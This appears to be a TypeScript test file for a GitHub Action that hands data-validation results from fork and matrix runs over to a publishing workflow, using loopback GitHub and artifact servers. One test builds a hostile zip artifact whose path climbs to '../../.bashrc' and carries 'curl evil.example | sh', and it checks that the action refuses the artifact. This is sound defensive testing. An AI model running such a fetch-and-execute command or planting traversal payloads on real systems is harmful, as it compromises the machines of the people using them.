// Handing over through the built action, as a runner starts it: a fork's run and the workflow that publishes it, and a
// matrix with its collect job. GitHub, its artifacts and the remote are real processes and real protocols.
import { existsSync } from 'node:fs';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { bareRemote, cloneOf, gitRepo, temporaryFolder, type BareRemote, type GitRepo } from '@pawl/testkit/git';
import {
  makeZip,
  startLoopbackArtifacts,
  startLoopbackGitHub,
  type LoopbackArtifacts,
  type LoopbackGitHub,
} from '@pawl/testkit/github';
import { beforeAll, expect, test } from 'vitest';
import { projectRoot } from '../src/material.ts';
import { runAction, type JobResult } from '../src/run-action.ts';

const repository = 'acme/things';
const action = join(projectRoot, 'actions', 'data-validation');

beforeAll(() => {
  if (!existsSync(join(action, 'dist/index.mjs')))
    throw new Error('The action is not built. "npm test" builds it, and so does "npx turbo run build".');
});

interface Stage extends AsyncDisposable {
  readonly remote: BareRemote;
  readonly github: LoopbackGitHub;
  readonly artifacts: LoopbackArtifacts;
  readonly sha: string;
  step(step: Step): Promise<JobResult>;
  /** Refs of the store on the remote: each bundle in the inbox is one push. */
  inbox(): Promise<readonly string[]>;
}

interface Step {
  readonly inputs: Readonly<Record<string, string>>;
  readonly event: 'own' | 'fork' | 'ended';
  readonly job: string;
  readonly attempt?: string;
}

const files = {
  'data/things.csv': 'id,size\n1,3\n2,4\n3,5\n',
  'data/things.expect.yml':
    'name: things\nexpectations:\n  - type: expect_column_values_to_be_unique\n    column: id\n',
};

async function stage(): Promise<Stage> {
  const folder = await temporaryFolder('pawl-runner');
  const runnerFolder = join(folder.path, 'runner');
  await mkdir(runnerFolder);
  const remote = await bareRemote();
  await using author: GitRepo = await gitRepo(files);
  await author.publishTo(remote);
  const sha = await author.git('rev-parse', 'HEAD');
  const checkout = await cloneOf(remote);
  const artifacts = await startLoopbackArtifacts();
  const github = await startLoopbackGitHub({
    repository,
    handlers: artifacts.handlers,
    pullRequests: [
      { number: 7, head: { ref: 'topic', sha, repository: 'mallory/things' }, base: { ref: 'main', sha } },
      { number: 8, head: { ref: 'own', sha }, base: { ref: 'main', sha } },
    ],
  });
  const payloads = {
    own: pullRequest(8, repository, sha),
    fork: pullRequest(7, 'mallory/things', sha),
    ended: {
      action: 'completed',
      workflow_run: {
        id: 42,
        run_attempt: 1,
        event: 'pull_request',
        head_sha: sha,
        head_branch: 'topic',
        head_repository: { full_name: 'mallory/things' },
        actor: { login: 'mallory' },
        html_url: `https://github.com/${repository}/actions/runs/42`,
        created_at: new Date(Date.now() - 60_000).toISOString(),
        updated_at: new Date(Date.now() + 600_000).toISOString(),
        conclusion: 'success',
      },
      repository: { full_name: repository },
    },
  };
  return {
    remote,
    github,
    artifacts,
    sha,
    inbox: async () =>
      (await remote.git('for-each-ref', '--format=%(refname)', 'refs/pawl')).split('\n').filter((ref) => ref !== ''),
    step: ({ inputs, event, job, attempt = '1' }) =>
      runAction({
        action,
        inputs: { 'upload-report': 'false', ...inputs },
        workspace: checkout.path,
        event: { name: 'pull_request', payload: payloads[event] },
        github: {
          apiUrl: github.url,
          token: github.token,
          repository,
          sha,
          ref: 'refs/heads/main',
          actor: event === 'own' ? 'robin' : 'mallory',
          workflow: 'gates',
          runId: event === 'ended' ? '99' : '42',
          job,
        },
        runnerFolder,
        env: {
          ...(event === 'ended' ? {} : artifacts.env),
          GITHUB_EVENT_NAME: event === 'ended' ? 'workflow_run' : 'pull_request',
          GITHUB_RUN_ATTEMPT: attempt,
          HOME: folder.path,
        },
      }),
    [Symbol.asyncDispose]: async () => {
      for (const resource of [github, artifacts, checkout, remote, folder]) await resource[Symbol.asyncDispose]();
    },
  };
}

const pullRequest = (number: number, headRepository: string, sha: string) => ({
  number,
  pull_request: {
    number,
    head: { ref: number === 7 ? 'topic' : 'own', sha, repo: { full_name: headRepository } },
    base: { ref: 'main', sha, repo: { full_name: repository } },
  },
  repository: { full_name: repository },
});

const gate = { data: 'data/things.csv', suite: 'data/things.expect.yml' };
const publish = { inputs: { mode: 'publish' }, event: 'ended', job: 'publish' } as const;

test("a fork's run leaves an artifact and writes nothing; publishing it stores one run and comments once", async () => {
  await using at = await stage();
  const judged = await at.step({ inputs: gate, event: 'fork', job: 'gate' });
  expect(judged.exitCode, judged.log).toBe(0);
  expect(judged.outputs).toMatchObject({ verdict: 'pass', 'run-id': '' });
  expect(at.artifacts.stored().map(({ name }) => name)).toEqual([judged.outputs['handover']]);
  expect(at.github.requests).toEqual([]);
  expect(await at.inbox()).toEqual([]);

  for (const time of ['first', 'again']) {
    const published = await at.step(publish);
    expect(published.exitCode, `${time}: ${published.log}`).toBe(0);
    expect(published.outputs['run-id']).toMatch(/^[0-9A-Z]{26}$/);
    expect(await at.inbox(), time).toHaveLength(1);
    expect(at.github.comments(7), time).toHaveLength(1);
  }
  expect(at.github.comments(7)[0]?.body).toContain("Reported by the fork's own run");
  expect(at.github.checkRuns()).toMatchObject([{ conclusion: 'neutral' }]);
  const [ref = ''] = await at.inbox();
  const paths = (await at.remote.git('ls-tree', '-r', '--name-only', ref)).split('\n');
  const record = await at.remote.git('show', `${ref}:${paths.find((path) => path.startsWith('runs/')) ?? ''}`);
  expect(JSON.parse(record)).toMatchObject({
    origin: { trust: 'fork', pullRequest: 7, commit: at.sha, actor: 'mallory', branch: 'mallory:topic' },
  });
  expect(at.github.violations).toEqual([]);
});

test('a hostile artifact is refused with its reason: nothing is stored and nobody is told anything in its name', async () => {
  await using at = await stage();
  at.artifacts.put(
    `pawl-bundle-data-validation-${'a'.repeat(16)}`,
    makeZip([{ path: '../../.bashrc', content: 'curl evil.example | sh' }]),
  );
  const published = await at.step(publish);
  expect(published.exitCode).toBe(3);
  expect(published.log).toMatch(/::error title=HANDOVER_REFUSED::.*leads out of it: "\.\.\/\.\.\/\.bashrc"/);
  expect(published.outputs).toMatchObject({ verdict: 'error', passed: 'false' });
  expect(await at.inbox()).toEqual([]);
  expect([at.github.comments(), at.github.checkRuns()]).toEqual([[], []]);
});

test('four legs and their collect job push once and comment once; run again, nothing is stored twice', async () => {
  await using at = await stage();
  const legs = ['3.10', '3.11', '3.12', '3.13'];
  const judged = await Promise.all(
    legs.map((python, index) =>
      at.step({
        inputs: {
          ...gate,
          store: 'artifact',
          matrix: JSON.stringify({ python }),
          'job-index': String(index),
          'job-total': '4',
        },
        event: 'own',
        job: 'gate',
      }),
    ),
  );
  expect(judged.map(({ exitCode }) => exitCode)).toEqual([0, 0, 0, 0]);
  expect(await at.inbox()).toEqual([]);
  expect(at.github.requests).toEqual([]);

  for (const attempt of ['1', '2']) {
    const collected = await at.step({ inputs: { mode: 'collect' }, event: 'own', job: 'collect', attempt });
    expect(collected.exitCode, collected.log).toBe(0);
    expect(collected.outputs).toMatchObject({ verdict: 'pass', headline: '4 of 4 legs handed over' });
    expect(await at.inbox(), attempt).toHaveLength(1);
    expect(at.github.comments(8), attempt).toHaveLength(1);
  }
  expect(at.github.comments(8)[0]?.body.match(/^\| data-validation /gm)).toHaveLength(4);
  const [ref = ''] = await at.inbox();
  const paths = (await at.remote.git('ls-tree', '-r', '--name-only', ref)).split('\n');
  expect(paths.filter((path) => path.startsWith('runs/'))).toHaveLength(4);
  expect(at.github.violations).toEqual([]);
});
